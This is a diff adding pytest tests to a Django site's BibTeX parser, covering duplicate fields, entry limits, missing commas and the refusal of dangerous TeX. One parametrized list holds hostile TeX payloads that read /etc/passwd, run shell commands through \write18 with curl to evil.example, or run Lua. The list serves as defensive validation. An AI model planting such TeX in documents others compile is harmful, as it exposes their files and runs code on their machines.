@@ -15,6 +15,7 @@ from homepage.site_tree import ensure_homepage
 from profile_site.models import ProfileSettings
 from publications.bibtex import (
     MAX_ACCENTS,
+    MAX_BLOCKS,
     BibtexError,
     bibtex_name,
     export_bibtex,
@@ -23,6 +24,7 @@ from publications.bibtex import (
     parse_bibtex,
     protect_title,
     publication_bibtex,
+    unsafe_tex,
 )
 from publications.models import PublicationAuthor, PublicationIndexPage, PublicationLink, PublicationPage
 
@@ -303,6 +305,39 @@ def test_abbreviations_written_out_into_megabytes_are_refused():
     joined_again_and_again = big + "@misc{k, title = " + " # ".join(["big"] * 20) + "}"
     with pytest.raises(BibtexError, match="@string abbreviations"):
         parse_bibtex(joined_again_and_again)
+
+
+def test_a_field_repeated_in_every_entry_is_read_with_one_note_per_field():
+    text = "".join(
+        f"@misc{{k{n}, title={{First}}, Title={{Second}}, title={{Third}}, year={{2020}}}}\n" for n in range(3)
+    )
+    entries = parse_bibtex(text)
+    assert [entry.title for entry in entries] == ["First"] * 3
+    assert entries[0].warnings == ["the field title is given 3 times: the first one is used"]
+    assert parse_bibtex(entries[0].source)[0].warnings == []
+
+
+def test_more_blocks_than_a_bibliography_holds_are_refused_before_reading():
+    """The parser's work on a block is that of a short entry, however little the block holds."""
+    assert len(parse_bibtex("@misc{,title={T}}\n" * MAX_BLOCKS)) == MAX_BLOCKS
+    for text in ("@misc{,title={T}}\n" * (MAX_BLOCKS + 1), "@a{" * 300_000):
+        with pytest.raises(BibtexError) as error:
+            parse_bibtex(text)
+        assert error.value.problems == [
+            f"more than {MAX_BLOCKS:,} entries and @strings (each starts with @): a list of publications has far "
+            "fewer; split the file"
+        ]
+
+
+def test_missing_commas_are_mended_in_slips_and_refused_in_bulk():
+    [entry] = parse_bibtex("@misc{k, title = {T} year = {2020} month = {3}}")
+    assert (entry.year, entry.month) == (2020, 3)
+    assert entry.warnings == [
+        "no comma between the fields title and year, and in one more place: each read as two fields"
+    ]
+    bulk = "".join(f"@misc{{k{n}, title = {{T}} year = {{2020}} note = {{{'x' * 100}}}}}\n" for n in range(1_000))
+    with pytest.raises(BibtexError, match=r"^line \d+ \(k\d+\): entries missing a comma between two fields come to"):
+        parse_bibtex(bulk)
 
 
 def test_a_file_broken_everywhere_lists_twenty_problems_and_counts_the_rest():
@@ -738,6 +773,62 @@ def test_stored_entry_that_is_not_one_entry_is_never_served(stored):
     mine.bibtex = stored
     assert publication_bibtex(mine) == generated_bibtex(mine)
     assert [entry.title for entry in parse_bibtex(export_bibtex([mine, yours]))] == ["Mine", "Yours"]
+
+
+TEX_THAT_READS_FILES_OR_RUNS = [
+    pytest.param(r"{\input{/etc/passwd}}", id="input"),
+    pytest.param(r"\include{/etc/passwd}", id="include"),
+    pytest.param(r"\openin1=/etc/passwd \read1 to\secret", id="openin-read"),
+    pytest.param(r"\immediate\openout1=paper.tex \write1{x} \immediate\write18{curl evil.example}", id="write18"),
+    pytest.param(r"\catcode`\|=0 |input{/etc/passwd}", id="catcode"),
+    pytest.param(r"\def\x{\inp}\x ut", id="def"),
+    pytest.param(r"\csname input\endcsname{/etc/passwd}", id="csname"),
+    pytest.param(r"\usepackage{shellesc}", id="usepackage"),
+    pytest.param(r"^^5cinput{/etc/passwd}", id="character-code"),
+    pytest.param("\\begin{file%\n  contents}{paper.tex}", id="filecontents-joined-by-a-comment"),
+    pytest.param(r"\lstinputlisting{/etc/passwd}", id="package-command"),
+    pytest.param(r"\directlua{os.execute('id')}", id="lua"),
+]
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize("tex", TEX_THAT_READS_FILES_OR_RUNS)
+def test_owner_entry_with_tex_that_reads_files_or_runs_is_refused_and_never_served(tex):
+    """An editor, not only the owner, can write the page's entry; visitors compile what /publications.bib serves."""
+    page = admin_page("Mine", ["Zoë Quill"])
+    page.bibtex = f"@misc{{mine, title = {{Mine {tex}}}}}"
+    with pytest.raises(ValidationError, match="TeX that reads or writes files, runs programs or redefines commands"):
+        page.full_clean()
+    # An entry stored before the rule (or by the shell) is not served: the page's own fields are.
+    assert publication_bibtex(page) == generated_bibtex(page)
+    assert unsafe_tex(export_bibtex([page])) == []
+
+
+@pytest.mark.django_db
+def test_tex_that_typesets_is_the_owners_to_use():
+    entry = r"""@misc{mine,
+      title = {{BERT} and {\"u}ber Na\"ive {\'E}t{\'e}s: 50\% {\&} \emph{More} $O(n^2)$ \ldots{} \TeX},
+      author = {M{\"u}ller, J{\"u}rgen and {\L}ukasiewicz, Jan and Dvo{\v{r}}{\'a}k, Anton{\'\i}n},
+      note = {\url{https://example.org/a_b} \href{https://example.org}{Here} {\noopsort{a}}\\ \copyright{} 2024%
+        Reading list},
+      abstract = {We read 20\%
+        fewer tokens. \begin{itemize}\item Openness\end{itemize}}
+    }"""
+    assert unsafe_tex(entry) == []
+    page = admin_page("Mine", ["Zoë Quill"])
+    page.bibtex = entry
+    assert page.bibtex_problem() == ""
+    assert publication_bibtex(page) == entry
+
+
+@pytest.mark.django_db
+def test_import_keeps_no_entry_with_tex_that_reads_files_or_runs(client, tmp_path):
+    text = "@misc{mine, title = {Mine}, note = {\\input{/etc/passwd}}, year = {2024}}\n"
+    output, _ = run_import(str(write(tmp_path, text)))
+    assert "line 1 (mine): the entry holds TeX that reads or writes files" in output
+    assert "(\\input): not kept; the page serves one written from its fields" in output
+    assert PublicationPage.objects.get().bibtex == ""
+    assert unsafe_tex(export(client)) == []
 
 
 @pytest.mark.django_db
